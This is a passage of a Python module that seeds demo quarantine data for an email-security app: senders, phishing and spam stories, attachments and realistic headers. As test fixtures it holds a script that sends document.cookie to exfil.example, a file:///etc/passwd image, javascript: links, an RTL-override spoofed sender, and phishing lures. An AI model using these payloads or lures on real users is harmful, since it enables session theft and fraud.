"""The demo tenant's quarantine story, rebuilt relative to "now" on every start so it always looks recent.

Alice (the demo user) has a normal week of spam and bulk mail, a handful of real phishing attempts, one
malware and one blocked file type, a message only IT can see, messages in every release state, and
THE INCIDENT: about 36 hours ago a URL rule held a burst of legitimate partner mail as (high
confidence) phishing. Bob, IT and the shared accounts@ mailbox have a few messages of their own.
Some data is hostile on purpose (HTML in a subject, an RTL override in a sender name, a 5,000
character subject) so every view is exercised against it.

Identities are deterministic (uuid5 of the story key), so tests and the UI demo can refer to a
message by the constants below. Layout: tables of senders, attachments and stories; small builders
turn a story row into a wire-form record with a realistic RFC 5322 header block and body.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import uuid
from dataclasses import dataclass
from email.header import Header
from email.utils import format_datetime
from html import escape
from typing import Any

from quarantine_checker.demo.directory import DEMO_TENANT_ID

_NS = uuid.UUID("6b1d1f0e-0c0a-4c52-9a43-5d0e8f3a9b71")

# --- Story constants (tests and the UI demo find the key messages by these) ---------------------------
INCIDENT_HOURS_AGO = 36
INVOICE_SUBJECT = "Invoice 4471 \u2014 payment due 30 November"
INVOICE_SENDER = "billing@partner.example"
CONTRACT_SUBJECT = "Signed contract \u2014 Northwind / Fabrikam services agreement 2026"
PAYMENT_SUBJECT = "Payment confirmation: transfer NW-88213 completed"
PROPOSAL_SUBJECT = "Proposal: Q1 onboarding workshop for Northwind"
HOSTILE_HTML_SUBJECT = 'Your order <img src="file:///etc/passwd"><b>x</b> has shipped'
RTL_DISPLAY_NAME = "IT Helpdesk \u202emoc.tfosorcim@troppus"  # shows as "IT Helpdesk support@microsoft.com"
DISPLAY_SPOOF_NAME = "billing@partner.example"
LONG_SUBJECT = ("FW: RE: Supplier onboarding checklist " + " ".join(
    f"item {i}: confirm tax form, bank letter and insurance certificate;" for i in range(1, 200))
)[:5000].rstrip()
LOOKALIKE_DOMAINS = ("rnicrosoft-support.example", "paypa1.example", "xn--pypal-4ve.example")

# Who sees what (tests use these groups).
ALICE_INCIDENT_KEYS = ("inc-invoice", "inc-contract", "inc-payment", "inc-project", "inc-migration",
                       "inc-proposal", "inc-po", "inc-maintenance", "inc-kickoff")
PHISH_KEYS = ("phish-microsoft", "phish-paypa1", "phish-punycode", "phish-display-name", "phish-reply-to",
              "phish-voicemail", "phish-docusign", "bob-phish-sharepoint", "admin-phish", "acct-phish")
SHARED_KEYS = ("acct-invoice", "acct-remittance", "acct-statement", "acct-phish", "acct-spam")


def story_identity(key: str) -> str:
    """The Identity (GUID1\\GUID2) the seed gives the story message `key`."""
    return f"{uuid.uuid5(_NS, key + '/network')}\\{uuid.uuid5(_NS, key + '/recipient')}"


INVOICE_IDENTITY = story_identity("inc-invoice")
CONTRACT_IDENTITY = story_identity("inc-contract")
PAYMENT_IDENTITY = story_identity("inc-payment")
PROPOSAL_IDENTITY = story_identity("inc-proposal")
REQUESTED_IDENTITY = story_identity("inc-po")
SYSTEM_RELEASED_IDENTITY = story_identity("inc-maintenance")
SHARED_WITH_BOB_IDENTITY = story_identity("inc-kickoff")
RELEASED_IDENTITY = story_identity("bulk-summit")
DENIED_IDENTITY = story_identity("phish-docusign")
ADMIN_ONLY_IDENTITY = story_identity("rule-payroll")
MALWARE_IDENTITY = story_identity("malware-scan")
FILE_BLOCK_IDENTITY = story_identity("filetype-iso")
NO_ACCESS_IDENTITY = story_identity("phish-voicemail")
HOSTILE_SUBJECT_IDENTITY = story_identity("spam-html-subject")
RTL_SENDER_IDENTITY = story_identity("phish-rtl")
LONG_SUBJECT_IDENTITY = story_identity("bulk-long-subject")
EXPIRING_SOON_IDENTITY = story_identity("spam-old")


# --- Senders ---------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class _Sender:
    address: str
    name: str
    ip: str
    country: str = "US"
    auth: str = "pass"         # pass | fail | softfail | none: what our mail system concluded
    bounce: str = ""           # envelope (Return-Path) address when it isn't the From address


_SENDERS: dict[str, _Sender] = {s.address: s for s in (
    # Known partners (the incident): everything authenticates.
    _Sender("billing@partner.example", "Partner Billing", "203.0.113.25", "DE"),
    _Sender("news@partner.example", "Partner Portal Team", "203.0.113.26", "DE"),
    _Sender("legal@fabrikam.example", "Fabrikam Legal", "198.51.100.40", "GB"),
    _Sender("payments@woodgrovebank.example", "Woodgrove Bank Payments", "192.0.2.80"),
    _Sender("j.chen@adatum.example", "Jia Chen (Adatum)", "198.51.100.61"),
    _Sender("orders@adatum.example", "Adatum Purchasing", "198.51.100.62"),
    _Sender("sam.rivera@litware.example", "Sam Rivera", "203.0.113.90", "CA"),
    _Sender("proposals@tailspin.example", "Tailspin Consulting", "192.0.2.140", "NL"),
    _Sender("ar@partner.example", "Partner Accounts Receivable", "203.0.113.25", "DE"),
    # Newsletters and promotions: sent through a mailing service, signed by the sender's domain.
    _Sender("news@techdigest.example", "Tech Digest", "192.0.2.10",
            bounce="bounce-7781@mail.sendwave.example"),
    _Sender("events@webinarhub.example", "WebinarHub Events", "192.0.2.11",
            bounce="b.2291@mail.sendwave.example"),
    _Sender("deals@officeworks-shop.example", "OfficeWorks Shop", "192.0.2.12",
            bounce="promo@em.officeworks-shop.example"),
    _Sender("hello@devsummit.example", "DevSummit 2026", "192.0.2.13", "GB",
            bounce="r-55@mail.sendwave.example"),
    _Sender("updates@tasklane.example", "Tasklane", "192.0.2.14", bounce="updates@bounce.tasklane.example"),
    _Sender("invites@cfo-forum.example", "CFO Forum", "192.0.2.15", "GB"),
    _Sender("digest@readly-news.example", "Readly Weekly", "192.0.2.16", bounce="d@mail.sendwave.example"),
    _Sender("survey@feedbackhub.example", "FeedbackHub", "192.0.2.17"),
    _Sender("events@cloudsummit.example", "Cloud Summit", "192.0.2.18"),
    _Sender("licensing@cloudvendor.example", "CloudVendor Licensing", "192.0.2.19"),
    # Spam: throwaway domains, mostly without a DMARC policy.
    _Sender("prize@winner-claims.example", "Rewards Center", "198.51.100.201", "RU", auth="none"),
    _Sender("seo@rank-boost.example", "Rank Boost SEO", "198.51.100.202", "IN", auth="none"),
    _Sender("mr.james.okoro@freemail.example", "Mr. James Okoro", "198.51.100.203", "NG", auth="softfail"),
    _Sender("info@certify-fast.example", "Certify Fast", "198.51.100.204", "PK", auth="none"),
    _Sender("alpha@coin-rocket.example", "CoinRocket", "198.51.100.205", "SC", auth="none"),
    _Sender("offers@energy-saver.example", "Energy Saver", "198.51.100.206", "US", auth="none"),
    _Sender("shipping@parcel-notice.example", "Parcel Service", "198.51.100.207", "CN", auth="none"),
    _Sender("factoring@cashflow-now.example", "CashFlow Now", "198.51.100.208", "US", auth="none"),
    # Phishing: look-alike domains, and nothing authenticates.
    _Sender("security@rnicrosoft-support.example", "Microsoft 365 Security", "198.51.100.66", "RU",
            auth="fail"),
    _Sender("service@paypa1.example", "PayPal Service", "198.51.100.67", "UA", auth="fail"),
    _Sender("support@xn--pypal-4ve.example", "PayPal", "198.51.100.68", "VN", auth="softfail"),
    _Sender("accounts-receivable@evil.example", DISPLAY_SPOOF_NAME, "198.51.100.69", "NG", auth="fail"),
    _Sender("voicemail@fax-alerts.example", "Voice Mail System", "198.51.100.70", "BR", auth="fail"),
    _Sender("sign@docusign-mail.example", "DocuSign via Partner", "198.51.100.71", "RU", auth="fail"),
    _Sender("support@helpdesk-notice.example", RTL_DISPLAY_NAME, "198.51.100.72", "RU", auth="fail"),
    _Sender("noreply@sharepoint-files.example", "SharePoint Online", "198.51.100.73", "RU", auth="fail"),
    _Sender("scanner@mfp-office.example", "MFP-3F Scanner", "198.51.100.74", "RO", auth="fail"),
    _Sender("docs@dhl-shipping.example", "DHL Express", "198.51.100.75", "TR", auth="softfail"),
    _Sender("payroll@payroll-provider.example", "PayrollCo Exports", "192.0.2.150", "GB"),
    _Sender("collections@overdue-notice.example", "Accounts Department", "198.51.100.76", "NG", auth="fail"),
    _Sender("admin@m365-tenant-verify.example", "Microsoft Admin Center", "198.51.100.77", "RU", auth="fail"),
)}


# --- Attachments --------------------------------------------------------------------------------------
_ATTACHMENTS: dict[str, dict[str, Any]] = {
    "invoice": {"name": "Invoice-4471.pdf", "content_type": "application/pdf", "size": 184_322},
    "contract": {"name": "Northwind-Fabrikam services agreement 2026 (signed).docx",
                 "content_type": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                 "size": 96_410},
    "proposal": {"name": "Tailspin proposal - onboarding workshop.pdf", "content_type": "application/pdf",
                 "size": 412_774},
    "slides": {"name": "Atlas kickoff.pptx",
               "content_type": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
               "size": 2_304_118},
    "po": {"name": "PO-2291.pdf", "content_type": "application/pdf", "size": 77_203},
    "statement": {"name": "Statement-October.pdf", "content_type": "application/pdf", "size": 65_020},
    "remittance": {"name": "Remittance-NW-88213.pdf", "content_type": "application/pdf", "size": 41_880},
    "iso": {"name": "AWB_7781_shipping_documents.iso", "content_type": "application/x-iso9660-image",
            "size": 1_441_792},
    "macro": {"name": "Scan_0193.docm", "content_type": "application/vnd.ms-word.document.macroEnabled.12",
              "size": 58_112},
    "fake_pdf_exe": {"name": "Invoice_overdue.pdf.exe", "content_type": "application/x-msdownload",
                     "size": 311_296},
    "voicemail_htm": {"name": "VM_0147_play.htm", "content_type": "text/html", "size": 4_210},
    "payroll": {"name": "payroll-export-Q4.xlsx",
                "content_type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                "size": 220_551},
}


# --- Stories ------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class _Story:
    key: str
    to: tuple[str, ...]          # local parts in the tenant's domain
    hours_ago: float
    sender: str                  # key of _SENDERS
    subject: str
    qtype: str                   # QuarantineTypes
    tag: str                     # TagName (quarantine policy)
    body: str                    # key of _BODIES
    attachments: tuple[str, ...] = ()
    status: str = "NOTRELEASED"
    retention_days: int = 30
    reply_to: str = ""
    policy_name: str = "Default"
    system_released: bool = False


_FULL = "DefaultFullAccessPolicy"
_FULL_N = "DefaultFullAccessWithNotificationPolicy"
_LIMITED = "LimitedAccessWithNotificationPolicy"
_NO_ACCESS = "NoAccessWithNotificationPolicy"
_ADMIN = "AdminOnlyAccessPolicy"
_STRICT = "Standard Preset Security Policy1784144691483"
_H = INCIDENT_HOURS_AGO  # the incident burst: all within ~2 hours around 36 hours ago

_STORIES: tuple[_Story, ...] = (
    # THE INCIDENT: legitimate partner mail held as phishing by a URL rule.
    _Story("inc-invoice", ("alice",), _H + 0.9, "billing@partner.example", INVOICE_SUBJECT, "HighConfPhish",
           _LIMITED, "invoice", ("invoice",), policy_name=_STRICT),
    _Story("inc-contract", ("alice",), _H + 0.7, "legal@fabrikam.example", CONTRACT_SUBJECT, "HighConfPhish",
           _LIMITED, "contract", ("contract",), policy_name=_STRICT),
    _Story("inc-payment", ("alice",), _H + 0.5, "payments@woodgrovebank.example", PAYMENT_SUBJECT, "Phish",
           _FULL_N, "payment", policy_name=_STRICT),
    _Story("inc-project", ("alice",), _H + 0.3, "j.chen@adatum.example", "Project Atlas \u2014 weekly update",
           "Phish", _FULL_N, "project_text", policy_name=_STRICT),
    _Story("inc-migration", ("alice",), _H + 0.1, "sam.rivera@litware.example",
           "Re: Migration timeline for Thursday", "Phish", _FULL_N, "migration_text", policy_name=_STRICT),
    _Story("inc-proposal", ("alice",), _H - 0.2, "proposals@tailspin.example", PROPOSAL_SUBJECT,
           "HighConfPhish", _LIMITED, "proposal", ("proposal",), policy_name=_STRICT),
    _Story("inc-po", ("alice",), _H - 0.4, "orders@adatum.example", "Purchase order PO-2291", "HighConfPhish",
           _LIMITED, "po", ("po",), status="REQUESTED", policy_name=_STRICT),
    _Story("inc-maintenance", ("alice",), _H - 0.6, "news@partner.example",
           "Partner portal maintenance on Saturday", "Phish", _FULL_N, "maintenance", status="RELEASED",
           policy_name=_STRICT, system_released=True),
    _Story("inc-kickoff", ("alice", "bob"), _H - 0.8, "j.chen@adatum.example",
           "Project Atlas \u2014 kickoff slides", "Phish", _FULL_N, "kickoff", ("slides",),
           policy_name=_STRICT),
    # Alice's real phishing.
    _Story("phish-microsoft", ("alice",), 5.2, "security@rnicrosoft-support.example",
           "Action required: your Microsoft 365 password expires today", "Phish", _FULL_N, "phish_microsoft"),
    _Story("phish-paypa1", ("alice",), 30.5, "service@paypa1.example",
           "Your account has been limited \u2014 confirm your details", "Phish", _FULL, "phish_paypal"),
    _Story("phish-punycode", ("alice",), 52.0, "support@xn--pypal-4ve.example",
           "Payment received: confirm to release funds", "HighConfPhish", _LIMITED, "phish_paypal"),
    _Story("phish-display-name", ("alice",), 20.0, "accounts-receivable@evil.example",
           "Updated bank details for Invoice 4471", "HighConfPhish", _LIMITED, "phish_bank_details"),
    _Story("phish-reply-to", ("alice",), 9.5, "ceo@{lookalike}", "Quick favour \u2014 are you at your desk?",
           "Phish", _FULL_N, "phish_ceo", reply_to="marc.laurent.ceo@freemail.example"),
    _Story("phish-voicemail", ("alice",), 74.0, "voicemail@fax-alerts.example",
           "Voicemail from +1 (555) 0147 (0:42)", "HighConfPhish", _NO_ACCESS, "voicemail",
           ("voicemail_htm",)),
    _Story("phish-docusign", ("alice",), 100.0, "sign@docusign-mail.example",
           "Please review and sign: Northwind NDA", "HighConfPhish", _LIMITED, "phish_docusign",
           status="DENIED"),
    _Story("phish-rtl", ("alice",), 14.0, "support@helpdesk-notice.example",
           "Mailbox storage almost full", "Phish", _FULL_N, "phish_microsoft"),
    # Malware, blocked file type, and a mail-flow rule message only IT may see.
    _Story("malware-scan", ("alice",), 27.0, "scanner@mfp-office.example", "Scanned document from MFP-3F",
           "Malware", _FULL, "scan_text", ("macro",)),
    _Story("filetype-iso", ("alice",), 44.0, "docs@dhl-shipping.example",
           "DHL Express: shipping documents for AWB 7781", "FileTypeBlock", _FULL_N, "dhl", ("iso",)),
    _Story("rule-payroll", ("alice",), 3.0, "payroll@payroll-provider.example", "Payroll export \u2014 Q4",
           "TransportRule", _ADMIN, "payroll_text", ("payroll",), policy_name="Block external payroll files"),
    # A normal week of bulk and spam.
    _Story("bulk-techdigest", ("alice",), 2.0, "news@techdigest.example", "This week in cloud security",
           "Bulk", _FULL, "newsletter"),
    _Story("bulk-webinar", ("alice",), 11.0, "events@webinarhub.example",
           "Webinar: zero-trust networking in 45 minutes", "Bulk", _FULL, "webinar"),
    _Story("bulk-chairs", ("alice",), 23.0, "deals@officeworks-shop.example",
           "Your November savings: 30% off office chairs", "Bulk", _FULL, "promo"),
    _Story("bulk-devsummit", ("alice",), 47.0, "hello@devsummit.example",
           "Last chance: early-bird pricing for DevSummit", "Bulk", _FULL, "promo"),
    _Story("bulk-tasklane", ("alice",), 60.0, "updates@tasklane.example",
           "What's new in Tasklane this month", "Bulk", _FULL, "newsletter"),
    _Story("bulk-cfo", ("alice",), 80.0, "invites@cfo-forum.example",
           "Invitation: finance leaders roundtable", "Bulk", _FULL, "webinar"),
    _Story("bulk-readly", ("alice",), 120.0, "digest@readly-news.example", "Your weekly reading list",
           "Bulk", _FULL, "newsletter"),
    _Story("bulk-survey", ("alice",), 150.0, "survey@feedbackhub.example",
           "Customer survey: tell us how we did", "Bulk", _FULL, "promo_text"),
    _Story("bulk-summit", ("alice",), 96.0, "events@cloudsummit.example",
           "Your badge for Cloud Summit", "Bulk", _FULL, "webinar", status="RELEASED"),
    _Story("bulk-long-subject", ("alice",), 33.0, "updates@tasklane.example", LONG_SUBJECT, "Bulk", _FULL,
           "newsletter"),
    _Story("bulk-old", ("alice",), 28.6 * 24, "news@techdigest.example", "Last month in cloud security",
           "Bulk", _FULL, "newsletter"),
    _Story("spam-prize", ("alice",), 7.0, "prize@winner-claims.example", "You have won a $500 gift card!!!",
           "Spam", _FULL, "spam_text"),
    _Story("spam-seo", ("alice",), 40.0, "seo@rank-boost.example", "Page 1 on Google for {domain}",
           "Spam", _FULL, "spam_text"),
    _Story("spam-okoro", ("alice",), 66.0, "mr.james.okoro@freemail.example",
           "Re: Business proposal (confidential)", "Spam", _FULL, "spam_text", retention_days=15),
    _Story("spam-certify", ("alice",), 90.0, "info@certify-fast.example", "Get certified in 2 weeks",
           "Spam", _FULL, "spam_text", retention_days=15),
    _Story("spam-crypto", ("alice",), 130.0, "alpha@coin-rocket.example",
           "The crypto opportunity you can't miss", "Spam", _FULL, "hostile"),
    _Story("spam-energy", ("alice",), 160.0, "offers@energy-saver.example", "Lower your energy bills today",
           "Spam", _FULL, "promo"),
    _Story("spam-html-subject", ("alice",), 18.0, "shipping@parcel-notice.example", HOSTILE_HTML_SUBJECT,
           "Spam", _FULL, "hostile"),
    _Story("spam-old", ("alice",), 13.6 * 24, "prize@winner-claims.example",
           "Final reminder: claim your reward",
           "Spam", _FULL, "spam_text", retention_days=15),
    # Bob.
    _Story("bob-delivery", ("bob",), _H + 0.6, "orders@adatum.example",
           "Re: Delivery schedule for order 5531", "Phish", _FULL_N, "project_text", policy_name=_STRICT),
    _Story("bob-sow", ("bob",), _H - 0.3, "legal@fabrikam.example", "Updated statement of work",
           "HighConfPhish", _LIMITED, "contract", ("contract",), policy_name=_STRICT),
    _Story("bob-phish-sharepoint", ("bob",), 8.0, "noreply@sharepoint-files.example",
           "Alice Moreau shared \u201cBonus_2026.xlsx\u201d with you", "HighConfPhish", _LIMITED,
           "phish_microsoft"),
    _Story("bob-webinar", ("bob",), 26.0, "events@webinarhub.example",
           "Webinar: Kubernetes cost control", "Bulk", _FULL, "webinar"),
    _Story("bob-spam", ("bob",), 50.0, "offers@energy-saver.example", "Solar panels at zero cost", "Spam",
           _FULL, "spam_text"),
    _Story("bob-digest", ("bob",), 98.0, "news@techdigest.example", "This week in developer tools", "Bulk",
           _FULL, "newsletter"),
    # IT admin.
    _Story("admin-license", ("it-admin",), 12.0, "licensing@cloudvendor.example",
           "Your subscription renews in 30 days", "Bulk", _FULL, "promo_text"),
    _Story("admin-phish", ("it-admin",), 21.0, "admin@m365-tenant-verify.example",
           "Global admin: verify your tenant to avoid suspension", "HighConfPhish", _ADMIN,
           "phish_microsoft"),
    _Story("admin-seo", ("it-admin",), 70.0, "seo@rank-boost.example", "Backlinks for {domain}", "Spam",
           _FULL, "spam_text"),
    # The shared accounts@ mailbox (never addressed to Alice).
    _Story("acct-invoice", ("accounts",), _H + 0.85, "billing@partner.example", INVOICE_SUBJECT,
           "HighConfPhish", _LIMITED, "invoice", ("invoice",), policy_name=_STRICT),
    _Story("acct-remittance", ("accounts",), _H + 0.4, "payments@woodgrovebank.example",
           "Remittance advice NW-88213", "Phish", _FULL_N, "payment", ("remittance",), policy_name=_STRICT),
    _Story("acct-statement", ("accounts",), 55.0, "ar@partner.example", "Statement of account \u2014 October",
           "Bulk", _FULL, "statement_text", ("statement",)),
    _Story("acct-phish", ("accounts",), 16.0, "collections@overdue-notice.example",
           "Overdue invoice \u2014 final notice before legal action", "Malware", _FULL, "scan_text",
           ("fake_pdf_exe",)),
    _Story("acct-spam", ("accounts",), 110.0, "factoring@cashflow-now.example",
           "Get paid on your invoices in 24 hours", "Spam", _FULL, "spam_text"),
)


# --- Bodies -----------------------------------------------------------------------------------------------
# Each body is (is_html, paragraphs, links as (text, href)); "{domain}", "{to}" and "{key}" are filled
# in per message.
_BodySpec = tuple[bool, tuple[str, ...], tuple[tuple[str, str], ...]]

_BODIES: dict[str, _BodySpec] = {
    "invoice": (True, (
        "Dear customer,",
        "Please find attached invoice 4471 for the October support retainer (EUR 12,480.00, payment due "
        "30 November). The invoice is also available on the partner portal.",
        "Kind regards,<br>Partner Billing Team",
    ), (("View invoice 4471 on the partner portal", "https://portal.partner.example/invoices/4471"),
        ("portal.partner.example", "https://portal.partner.example/"))),
    "contract": (True, (
        "Hello,",
        "Attached is the countersigned services agreement. Please keep a copy for your records; the "
        "effective date is 1 January.",
        "Best regards,<br>Fabrikam Legal",
    ), (("Fabrikam contract FAQ", "https://www.fabrikam.example/legal/faq"),)),
    "payment": (True, (
        "Your transfer NW-88213 of USD 8,200.00 to Partner GmbH was completed today.",
        "If you did not make this payment, call us on the number on the back of your card.",
    ), (("Sign in to online banking", "https://online.woodgrovebank.example/login"),
        ("https://online.woodgrovebank.example", "https://online.woodgrovebank.example/"))),
    "project_text": (False, (
        "Hi all,",
        "Status this week: data migration 80% done, UAT starts Monday. Risks: vendor API rate limits.",
        "Tracker: https://atlas.adatum.example/board",
        "Thanks,\nJia",
    ), ()),
    "migration_text": (False, (
        "Hi Alice,",
        "Thursday works for us. We'll start the cut-over at 18:00 and expect to finish by 22:00.",
        "Runbook: https://wiki.litware.example/migration/runbook",
        "Sam",
    ), ()),
    "proposal": (True, (
        "Dear Alice,",
        "Thank you for the call last week. Our proposal for the Q1 onboarding workshop is attached.",
        "Warm regards,<br>Tailspin Consulting",
    ), (("Book a follow-up call", "https://calendar.tailspin.example/book/alice"),)),
    "po": (True, (
        "Please find purchase order PO-2291 attached. Delivery address as per contract.",
    ), (("Supplier portal", "https://suppliers.adatum.example/po/2291"),)),
    "maintenance": (True, (
        "The partner portal will be unavailable on Saturday from 06:00 to 10:00 UTC for maintenance.",
    ), (("Status page", "https://status.partner.example/"),)),
    "kickoff": (True, (
        "Hi both, the kickoff slides are attached. See you on Tuesday!",
    ), (("Meeting notes", "https://atlas.adatum.example/notes/kickoff"),)),
    "phish_microsoft": (True, (
        "Your password for {to} expires today.",
        "To keep using Outlook, Teams and OneDrive, confirm your current password now.",
        "Microsoft 365 Security Team",
    ), (("https://login.microsoftonline.com/", "https://rnicrosoft-support.example/verify?u={to}"),
        ("Keep my password", "javascript:document.location='https://rnicrosoft-support.example/'"))),
    "phish_paypal": (True, (
        "We noticed unusual activity and limited your account.",
        "Confirm your details within 24 hours to avoid permanent suspension.",
    ), (("www.paypal.com/account", "https://paypa1.example/secure/confirm"),)),
    "phish_bank_details": (True, (
        "Dear Accounts team,",
        "Due to an audit, our bank details have changed. Please pay invoice 4471 to the new account below "
        "and confirm once done.",
        "IBAN: XX00 0000 0000 0000 0000 00",
    ), (("portal.partner.example", "https://partner-portal.evil.example/login"),)),
    "phish_ceo": (False, (
        "Alice,",
        "Are you at your desk? I need you to handle a confidential payment today. I'm in meetings all "
        "afternoon, reply to this email only.",
        "Marc",
    ), ()),
    "voicemail": (True, (
        "You have a new voicemail (0:42). Open the attachment to play it.",
    ), (("Play message", "https://fax-alerts.example/vm/0147"),)),
    "phish_docusign": (True, (
        "Partner Legal sent you a document to review and sign.",
    ), (("REVIEW DOCUMENT", "https://docusign-mail.example/sign?id=8812"),)),
    "scan_text": (False, ("Please open the attached document.", "Sent from MFP-3F"), ()),
    "dhl": (True, (
        "Your shipment AWB 7781 is on hold. Open the attached shipping documents to arrange delivery.",
    ), (("Track shipment", "https://dhl-shipping.example/track/7781"),)),
    "payroll_text": (False, ("Q4 payroll export attached as agreed.", "PayrollCo"), ()),
    "newsletter": (True, (
        "<h1>This week's top stories</h1>",
        "Five things to check in your cloud tenant before the holidays, plus our reader survey results.",
    ), (("www.techdigest.example/stories", "https://click.sendwave.example/ls/click?upn=7781"),
        ("Unsubscribe", "https://click.sendwave.example/unsub?u=7781"))),
    "webinar": (True, (
        "<h2>Save your seat</h2>",
        "Join our experts live for 45 minutes with Q&amp;A. Can't make it? Register and we'll send the "
        "recording.",
    ), (("Register now", "https://events.webinarhub.example/register?ref=mail"),
        ("Unsubscribe", "https://events.webinarhub.example/unsubscribe"))),
    "promo": (True, (
        "<h1>30% off \u2014 this week only</h1>",
        "Ergonomic chairs, standing desks and more. Free delivery over $99.",
    ), (("Shop the sale", "https://click.sendwave.example/ls/click?upn=1234"),
        ("View in browser", "https://view.sendwave.example/v/1234"))),
    "promo_text": (False, (
        "Hello,", "We'd love your feedback. The survey takes 3 minutes: https://feedbackhub.example/s/88",
        "To stop receiving these emails, reply STOP.",
    ), ()),
    "statement_text": (False, (
        "Dear customer,", "Please find your statement of account for October attached.",
        "Partner Accounts Receivable",
    ), ()),
    "spam_text": (False, (
        "CONGRATULATIONS!!! You have been selected.",
        "Reply with your name, address and phone number to claim: http://winner-claims.example/claim",
    ), ()),
    "hostile": (True, (
        "Track your parcel below.",
        '<script>fetch("https://exfil.example/?c="+document.cookie)</script>',
        '<img src="file:///etc/passwd" alt="">',
        '<iframe src="https://ads.example/frame"></iframe>',
    ), (("https://www.ups.example/track", "https://parcel-notice.example/t?id={key}"),
        ("Confirm", "javascript:alert(document.domain)"))),
}


def _html_body(paragraphs: tuple[str, ...], links: tuple[tuple[str, str], ...], sender: str, key: str) -> str:
    domain = sender.rsplit("@", 1)[1]
    parts = [
        "<html><head><meta charset=\"utf-8\"><title>message</title>",
        "<style>body{font-family:Segoe UI,Arial,sans-serif} .btn{background:#0067b8;color:#fff}</style>",
        "</head><body>",
        f'<img src="https://cdn.{domain}/brand/logo.png" alt="{escape(domain)}" width="120">',
    ]
    parts += [p if p.startswith("<") else f"<p>{p}</p>" for p in paragraphs]
    parts += [f'<p><a class="btn" href="{escape(href)}">{escape(text)}</a></p>' for text, href in links]
    # Marketing and notification mail almost always carries an open-tracking pixel.
    parts.append(f'<img src="https://t.{domain}/o/{hashlib.sha256(key.encode()).hexdigest()[:16]}.gif" '
                 'width="1" height="1" alt="">')
    parts.append("</body></html>")
    return "\n".join(parts)


# --- Headers --------------------------------------------------------------------------------------------
_CAT = {"Spam": "SPM", "Bulk": "BULK", "Phish": "PHSH", "HighConfPhish": "HPHISH", "Malware": "MALW",
        "FileTypeBlock": "MALW", "TransportRule": "NONE"}
_SCL = {"Spam": 5, "Bulk": 6, "Phish": 8, "HighConfPhish": 9, "Malware": 1, "FileTypeBlock": 1,
        "TransportRule": 1}
_TYPE_DISPLAY = {"Spam": "Spam", "Bulk": "Bulk", "Phish": "Phish", "HighConfPhish": "High Confidence Phish",
                 "Malware": "Malware", "FileTypeBlock": "File Type Block", "TransportRule": "Transport Rule"}
_POLICY_TYPE = {"Malware": "AntiMalwarePolicy", "FileTypeBlock": "AntiMalwarePolicy",
                "TransportRule": "ExchangeTransportRule"}
_FRONTEND = "AM4PEPF00027A5F.eurprd04.prod.outlook.com"
_MAILBOX = "DB9PR04MB8412.eurprd04.prod.outlook.com"


def _fake_b64(seed: str, length: int) -> str:
    raw = b"".join(hashlib.sha256(f"{seed}:{i}".encode()).digest() for i in range(length // 40 + 1))
    return base64.b64encode(raw).decode()[:length]


def _fold(name: str, value: str, width: int = 78) -> str:
    """Fold a long header at spaces, as mail software does (continuation lines start with a space)."""
    line, lines = f"{name}: ", []
    for word in value.split(" "):
        if len(line) + len(word) + 1 > width and line.strip():
            lines.append(line.rstrip())
            line = " "
        line += word + " "
    lines.append(line.rstrip())
    return "\r\n".join(lines)


def _subject_header(subject: str) -> str:
    if subject.isascii():
        return _fold("Subject", subject)
    return "Subject: " + Header(subject, "utf-8", header_name="Subject").encode(linesep="\r\n")


def _mailbox(name: str, address: str) -> str:
    quoted = name.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{quoted}" <{address}>'


def _auth_results(s: _Sender, from_domain: str, bounce_domain: str) -> tuple[str, str]:
    """(Authentication-Results, Received-SPF) as EOP writes them for this sender's outcome."""
    ip = s.ip
    spf, dkim, dmarc, comp = {
        "pass": ("pass", "pass (signature was verified)", "pass action=none", "pass reason=100"),
        "none": ("none", "none (message not signed)", "none action=none", "softpass reason=201"),
        "softfail": ("softfail", "fail (body hash did not verify)", "fail action=quarantine",
                     "fail reason=001"),
        "fail": ("fail", "none (message not signed)", "fail action=oreject", "fail reason=000"),
    }[s.auth]
    spf_text = {"pass": "pass", "none": "none", "softfail": "softfail", "fail": "fail"}[spf]
    dkim_d = from_domain if dkim.startswith(("pass", "fail")) else "none"
    results = (
        f"Authentication-Results: spf={spf_text} (sender IP is {ip})\r\n"
        f" smtp.mailfrom={bounce_domain}; dkim={dkim}\r\n"
        f" header.d={dkim_d};dmarc={dmarc}\r\n"
        f" header.from={from_domain};compauth={comp}"
    )
    verdict = {"pass": "Pass", "none": "None", "softfail": "SoftFail", "fail": "Fail"}[spf]
    designates = "designates" if spf == "pass" else "does not designate"
    received_spf = (f"Received-SPF: {verdict} (protection.outlook.com: domain of {bounce_domain} "
                    f"{designates} {ip} as permitted sender) receiver=protection.outlook.com; "
                    f"client-ip={ip}; helo=mail.{bounce_domain};")
    return results, received_spf


def _header_block(story: _Story, s: _Sender, sender: str, to: list[str], names: dict[str, str],
                  received: dt.datetime, message_id: str, network_id: str, content_type: str) -> str:
    from_domain = sender.rsplit("@", 1)[1]
    bounce = s.bounce or sender
    bounce_domain = bounce.rsplit("@", 1)[1]
    sent = received - dt.timedelta(seconds=37)
    stamp = format_datetime(received)
    results, received_spf = _auth_results(s, from_domain, bounce_domain)
    cat, scl = _CAT[story.qtype], _SCL[story.qtype]
    lines = [
        f"Received: from {_MAILBOX} (2603:10a6:20b:5a1::12) by {_MAILBOX.replace('8412', '8377')}"
        f" with HTTPS; {stamp}",
        f"Received: from {_FRONTEND} (2603:10a6:20b:5a1::9) by {_MAILBOX} (2603:10a6:20b:5a1::12)"
        f" with Microsoft SMTP Server (version=TLS1_2,\r\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)"
        f" id 15.20.8158.21; {stamp}",
        results,
        received_spf,
        f"Received: from mail.{bounce_domain} ({s.ip}) by {_FRONTEND} (10.167.16.73) with Microsoft SMTP"
        f"\r\n Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.8158.14 via Frontend"
        f" Transport; {format_datetime(received - dt.timedelta(seconds=2))}",
    ]
    if s.auth in ("pass", "softfail"):
        lines.append(f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={from_domain};\r\n"
                     f" s=selector1; h=From:Date:Subject:Message-ID:Content-Type:MIME-Version;\r\n"
